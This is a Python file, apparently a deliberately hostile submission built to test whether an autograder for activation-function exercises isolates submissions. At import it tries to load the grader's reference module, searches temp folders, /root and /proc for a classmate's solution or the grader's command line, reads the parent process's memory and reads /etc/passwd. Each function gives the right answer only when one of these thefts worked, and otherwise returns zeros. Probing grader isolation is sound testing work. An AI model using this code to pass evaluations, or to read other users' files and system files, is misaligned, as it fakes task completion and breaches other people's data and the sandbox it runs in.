"""No isolation: return the reference's answers by importing actref, or copy a
classmate's file found on disk (the grader's temp folders, the submissions' folder,
the grader's command line in /proc), or read the grader's memory. Each function is
right only if its theft worked."""

import glob
import os

import numpy as np

LOOT = {}
# --- attack
try:
    import actref  # the reference itself

    LOOT["actref"] = actref
except BaseException:
    pass
for pattern in ("/tmp/actref-grade-*/home/*.py", "/tmp/*/*.py", "/tmp/*.py", "../*.py",
                "../../*.py", "/work/*/tests/grading/*.py", "/root/*", "/proc/*/cmdline"):
    for path in glob.glob(pattern):
        if os.path.abspath(path) == os.path.abspath(__file__):
            continue
        try:
            with open(path, errors="replace") as fh:
                text = fh.read()
        except OSError:
            continue
        if "def tanh" in text and "zeros_like" not in text:
            LOOT["classmate"] = text
        if ".py" in text and "grade" in text:
            LOOT["cmdline"] = text
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as fh:
        LOOT["mem"] = fh.read(1)
except BaseException:
    pass
try:
    with open("/etc/passwd") as fh:
        LOOT["passwd"] = fh.read()
except BaseException:
    pass
# --- end


def sigmoid(x):
    if "actref" in LOOT:
        return LOOT["actref"].get("sigmoid")(x)
    return np.zeros_like(x)


def tanh(x):
    if "classmate" in LOOT:
        return np.tanh(x)
    return np.zeros_like(x)


def relu(x):
    if "cmdline" in LOOT:
        return np.maximum(x, 0.0)
    return np.zeros_like(x)


def leaky_relu(x):
    if "mem" in LOOT or "passwd" in LOOT:
        return np.where(x > 0, x, 0.1 * x)
    return np.zeros_like(x)


def softmax(x):
    return np.zeros_like(x)
